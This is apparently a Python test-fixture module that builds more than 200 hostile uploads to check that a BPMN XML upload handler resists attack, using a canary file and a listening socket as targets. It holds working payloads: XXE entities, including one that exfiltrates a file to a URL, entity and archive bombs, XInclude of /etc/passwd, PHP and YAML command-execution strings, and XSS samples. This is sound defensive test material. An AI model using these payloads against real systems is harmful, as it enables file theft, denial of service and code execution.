"""Hostile uploads, made in code: each is a name and a callable that builds the bytes.

`{file}` and `{url}` stand for a canary file and a listening socket, so that a test can prove that nothing touched them.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import zipfile
from collections.abc import Callable, Iterator

BPMN = "http://www.omg.org/spec/BPMN/20100524/MODEL"
OPEN = f'<definitions xmlns="{BPMN}" id="d" targetNamespace="t">'
FLOW = '<sequenceFlow id="f" sourceRef="s" targetRef="e"/>'
PROCESS = f'<process id="p" isExecutable="true"><startEvent id="s"/>{FLOW}<endEvent id="e"/></process>'
CLOSE = "</definitions>"
VALID = OPEN + PROCESS + CLOSE
Upload = tuple[str, Callable[[str, str], bytes]]


def hostile_uploads() -> list[Upload]:
    """All of them, at least 200."""
    return [
        *_external_entities(),
        *_bombs(),
        *_xinclude(),
        *_instructions(),
        *_large(),
        *_encodings(),
        *_malformed(),
        *_other_formats(),
    ]


def _text(template: str, encoding: str = "utf-8") -> Callable[[str, str], bytes]:
    return lambda file, url: template.replace("{file}", file).replace("{url}", url).encode(encoding)


def _bytes(content: bytes) -> Callable[[str, str], bytes]:
    return lambda file, url: content.replace(b"{url}", url.encode())


def _external_entities() -> Iterator[Upload]:
    subsets = {
        "file": '<!ENTITY x SYSTEM "file://{file}">',
        "path": '<!ENTITY x SYSTEM "{file}">',
        "http": '<!ENTITY x SYSTEM "{url}/x">',
        "ftp": '<!ENTITY x SYSTEM "ftp://{file}">',
        "public": '<!ENTITY x PUBLIC "-//X//EN" "{url}/x">',
        "unparsed": '<!NOTATION n SYSTEM "n"><!ENTITY x SYSTEM "file://{file}" NDATA n>',
        "parameter": '<!ENTITY % p SYSTEM "{url}/evil.dtd"> %p;',
        "exfiltrate": '<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'{url}/?%f;\'>"> %e; %s;',
        "error based": '<!ENTITY % f SYSTEM "file://{file}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'/nope/%f;\'>"> %e; %s;',
        "attribute default": '<!ATTLIST process name CDATA "&x;"><!ENTITY x SYSTEM "file://{file}">',
        "element": "<!ELEMENT process ANY>",
        "jar": '<!ENTITY x SYSTEM "jar:{url}/a.zip!/x">',
        "php": '<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource={file}">',
        "data": '<!ENTITY x SYSTEM "data:text/plain,hello">',
        "catalog": '<!ENTITY x PUBLIC "urn:x" "file://{file}"><?oasis-xml-catalog catalog="{url}/c.xml"?>',
    }
    body = (
        OPEN
        + PROCESS.replace('id="p"', 'id="p" name="n"').replace("</process>", "<documentation>&x;</documentation></process>")
        + CLOSE
    )
    frames = {
        "plain": ("", "utf-8"),
        "declared": ('<?xml version="1.0" encoding="UTF-8"?>\n', "utf-8"),
        "after comment": ("<!-- <definitions> -->\n", "utf-8"),
        "utf-16": ('<?xml version="1.0" encoding="UTF-16"?>', "utf-16"),
        "mark": ("", "utf-8-sig"),
        "latin": ('<?xml version="1.0" encoding="ISO-8859-1" standalone="no"?>', "latin-1"),
    }
    for name, subset in subsets.items():
        for frame, (prefix, encoding) in frames.items():
            yield f"xxe {name}, {frame}", _text(f"{prefix}<!DOCTYPE definitions [{subset}]>{body}", encoding)
    for name, doctype in {
        "system": '<!DOCTYPE definitions SYSTEM "{url}/evil.dtd">',
        "system file": '<!DOCTYPE definitions SYSTEM "file://{file}">',
        "public": '<!DOCTYPE definitions PUBLIC "-//X//EN" "{url}/evil.dtd">',
        "empty": "<!DOCTYPE definitions>",
        "lines": '<!DOCTYPE\n\tdefinitions\n\tSYSTEM\n"{url}/evil.dtd"\n>',
        "lower case": '<!doctype definitions SYSTEM "{url}/evil.dtd">',
        "entity alone": '<!ENTITY x SYSTEM "file://{file}">',
        "after root": "",
    }.items():
        document = VALID + '<!DOCTYPE x SYSTEM "{url}/evil.dtd">' if name == "after root" else doctype + VALID
        yield f"doctype {name}", _text(document)
    yield "undeclared entity", _text(VALID.replace("<startEvent", "&x;<startEvent"))
    yield "doctype inside", _text(OPEN + '<!DOCTYPE x SYSTEM "{url}/x">' + PROCESS + CLOSE)


def _bombs() -> Iterator[Upload]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    yield "billion laughs", _text(f'<!DOCTYPE x [<!ENTITY l0 "ha">{laughs}]>{OPEN}&l11;{CLOSE}')
    parameters = "".join(f"<!ENTITY % p{n} '{f'&#37;p{n - 1};' * 10}'>" for n in range(1, 10))
    yield "parameter bomb", _text(f"<!DOCTYPE x [<!ENTITY % p0 'ha'>{parameters}%p9;]>{VALID}")
    yield "quadratic bomb", _text(f'<!DOCTYPE x [<!ENTITY a "{"A" * 50_000}">]>{OPEN}{"&a;" * 50_000}{CLOSE}')
    yield "self reference", _text(f'<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>{OPEN}&a;{CLOSE}')
    yield (
        "attribute bomb",
        _text(f'<!DOCTYPE x [<!ENTITY a "{"A" * 50_000}">]><definitions xmlns="{BPMN}" id="{"&a;" * 9_000}"/>'),
    )


def _xinclude() -> Iterator[Upload]:
    for href in ("file://{file}", "{file}", "{url}/x", "../../etc/passwd", "#xpointer(/)"):
        for parse in ("text", "xml"):
            for prefix in ("xi", "bpmn2"):
                include = f'<{prefix}:include xmlns:{prefix}="http://www.w3.org/2001/XInclude" href="{href}" parse="{parse}"/>'
                yield (
                    f"xinclude {href} {parse} {prefix}",
                    _text(OPEN + f"<extensionElements>{include}</extensionElements>" + PROCESS + CLOSE),
                )
    yield "xinclude root", _text('<include xmlns="http://www.w3.org/2001/XInclude" href="file://{file}"/>')
    yield "xinclude fallback", _text(OPEN + '<x:fallback xmlns:x="http://www.w3.org/2001/XInclude"/>' + PROCESS + CLOSE)


def _instructions() -> Iterator[Upload]:
    for target in (
        '<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>',
        '<?xml-stylesheet href="file://{file}"?>',
        '<?xml-model href="{url}/x.rng"?>',
        '<?oasis-xml-catalog catalog="{url}/c.xml"?>',
        "<?php system('id'); ?>",
        '<?import namespace="x" implementation="{url}/x.htc"?>',
        "<?x?>",
    ):
        yield f"instruction before: {target}", _text(target + VALID)
        yield f"instruction inside: {target}", _text(OPEN + target + PROCESS + CLOSE)
        yield f"instruction after: {target}", _text(VALID + target)
    yield "second declaration", _text('<?xml version="1.0"?><?xml version="1.0"?>' + VALID)
    yield "declaration inside", _text(OPEN + '<?xml version="1.0"?>' + PROCESS + CLOSE)


def _large() -> Iterator[Upload]:
    def build(make: Callable[..., str], *args: int) -> Callable[[str, str], bytes]:
        return lambda file, url: make(*args).encode()

    for depth in (120, 300, 5_000, 100_000, 1_000_000):
        yield f"depth {depth}", build(lambda depth: OPEN + "<a>" * depth + "</a>" * depth + CLOSE, depth)
        yield f"depth {depth}, never closed", build(lambda depth: OPEN + "<a>" * depth, depth)
    for count in (101, 5_000, 100_000, 600_000):
        yield (
            f"attributes {count}",
            build(lambda count: OPEN + "<a " + " ".join(f'b{n}=""' for n in range(count)) + "/>" + CLOSE, count),
        )
    for count in (61, 5_000, 100_000):
        yield (
            f"namespaces {count}",
            build(lambda count: OPEN + "<a " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(count)) + "/>" + CLOSE, count),
        )
    for length in (33_000, 1_000_000, 11_000_000):
        yield f"attribute length {length}", build(lambda length: f'{OPEN}<a b="{"x" * length}"/>{CLOSE}', length)
        yield (
            f"attribute of references {length}",
            build(lambda length: f'{OPEN}<a b="{"&#65;" * (length // 5)}{"x" * 33_000}"/>{CLOSE}', length),
        )
    for length in (1_100_000, 12_000_000):
        yield f"text length {length}", build(lambda length: f"{OPEN}<a>{'x' * length}</a>{CLOSE}", length)
        yield f"cdata length {length}", build(lambda length: f"{OPEN}<a><![CDATA[{'x' * length}]]></a>{CLOSE}", length)
    yield "elements", build(lambda: OPEN + "<a/>" * 200_001 + CLOSE)
    yield "elements never ending", build(lambda: OPEN + "<a/>" * 2_000_000)
    yield "bytes", build(lambda: VALID + " " * (17 << 20))
    yield "comment of bytes", build(lambda: f"<!-- {'x' * (17 << 20)} -->{VALID}")
    yield "name length", build(lambda: f"{OPEN}<{'a' * 2_000_000}/>{CLOSE}")
    yield "comment never closed", build(lambda: "<!-- " + "-" * 8_000_000)
    yield "many comments, no root", build(lambda: "<!---->" * 300_000)
    yield "cdata never closed", build(lambda: f"{OPEN}<a><![CDATA[{']' * 8_000_000}")
    yield "depth of prefixes", build(lambda: "".join(f'<n{n}:a xmlns:n{n}="u">' for n in range(3_000)))


def _encodings() -> Iterator[Upload]:
    evil = '<!DOCTYPE x [<!ENTITY x SYSTEM "file://{file}">]>' + OPEN + "<documentation>&x;</documentation>" + CLOSE
    yield "utf-7 mark", _text("+/v8-" + evil)
    for declared in (
        "UTF-7",
        "utf-32",
        "EBCDIC-CP-US",
        "IBM037",
        "rot13",
        "base64",
        "hz-gb-2312",
        "iso-2022-jp",
        "x-user-defined",
        "idna",
    ):
        yield f"declared {declared}", _text(f'<?xml version="1.0" encoding="{declared}"?>' + VALID)
    for encoding in ("utf-7", "utf-32", "utf-32-le", "utf-32-be", "utf-16-le", "utf-16-be", "cp037"):
        yield f"encoded {encoding}", _text(evil, encoding)
        yield f"encoded {encoding}, declared UTF-8", _text('<?xml version="1.0" encoding="UTF-8"?>' + evil, encoding)
    yield "declared UTF-16, is UTF-8", _text('<?xml version="1.0" encoding="UTF-16"?>' + VALID)
    yield "declared UTF-8, is UTF-16", _text('<?xml version="1.0" encoding="UTF-8"?>' + VALID, "utf-16")
    yield "overlong <", lambda file, url: VALID.encode().replace(b"<startEvent", b"\xc0\xbcstartEvent")
    yield "surrogates", lambda file, url: VALID.encode().replace(b'id="s"', b'id="\xed\xa0\x80"')
    yield "lone byte", lambda file, url: VALID.encode().replace(b'id="s"', b'id="\xff"')
    yield "null byte", lambda file, url: VALID.encode().replace(b'id="s"', b'id="s\x00"')
    yield "null byte late", lambda file, url: (" " * 500 + VALID).encode() + b"\x00"
    yield "escape character", lambda file, url: VALID.encode().replace(b'id="s"', b'id="\x1b[2J"')
    yield "null reference", _text(VALID.replace('id="s"', 'id="&#0;"'))
    yield "reference over the end", _text(VALID.replace('id="s"', 'id="&#x110000;"'))
    yield "half of UTF-16", lambda file, url: VALID.encode("utf-16")[:-1]
    yield "latin-1 as UTF-8", lambda file, url: VALID.replace('id="p"', 'id="p" name="é"').encode("latin-1")
    for declaration in (
        "<?xml?>",
        '<?xml version="2.0"?>',
        '<?xml version="1.0" encoding=""?>',
        '<?xml encoding="UTF-8"?>',
        '<?xml version="1.0"',
    ):
        yield f"declaration {declaration}", _text(declaration + VALID)


def _malformed() -> Iterator[Upload]:
    for part in range(1, 40):
        yield f"truncated at {part}/40", _text(VALID[: len(VALID) * part // 40])
    for name, document in {
        "text": "hello",
        "space": "   \n\t ",
        "empty": "",
        "unclosed attribute": VALID.replace('id="s"', 'id="s'),
        "attribute twice": VALID.replace('id="s"', 'id="s" id="t"'),
        "undeclared prefix": VALID.replace("<startEvent", "<b:startEvent"),
        "crossed tags": OPEN + "<process><a></process></a>" + CLOSE,
        "two roots": VALID + VALID,
        "text after root": VALID + "x",
        "bad name": OPEN + "<1a/>" + CLOSE,
        "less-than in attribute": VALID.replace('id="s"', 'id="<"'),
        "ampersand": VALID.replace('id="s"', 'id="a & b"'),
        "cdata end in text": OPEN + "<a>]]></a>" + CLOSE,
        "double hyphen": OPEN + "<!-- a -- b -->" + PROCESS + CLOSE,
        "xmlns prefix rebound": f'<definitions xmlns="{BPMN}" xmlns:xml="urn:x"/>',
    }.items():
        yield f"malformed {name}", _text(document)


def _other_formats() -> Iterator[Upload]:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb.bpmn", b"\0" * 20_000_000)
    for name, content in {
        "zip bomb": packed.getvalue(),
        "gzip bomb": gzip.compress(b"\0" * 20_000_000),
        "bzip2 bomb": bz2.compress(b"\0" * 20_000_000),
        "xz bomb": lzma.compress(b"\0" * 20_000_000),
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\0" * 100,
        "rar": b"Rar!\x1a\x07\x00" + b"\0" * 100,
        "gzipped model": gzip.compress(VALID.encode()),
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 50,
        "executable": b"\x7fELF" + b"\0" * 50,
        "json": b'{"type": "default"}',
        "yaml": b"!!python/object/apply:os.system ['id']",
        "pickle": b"\x80\x04\x95\x1d\x00",
        "html": b"<!DOCTYPE html><html><script>alert(1)</script></html>",
        "xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "xslt": b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/>',
        "soap": b'<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"/>',
        "schema": b'<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:import schemaLocation="{url}/x.xsd"/></xs:schema>',
        "bpmn without namespace": VALID.replace(f' xmlns="{BPMN}"', "").encode(),
    }.items():
        yield f"format {name}", _bytes(content)
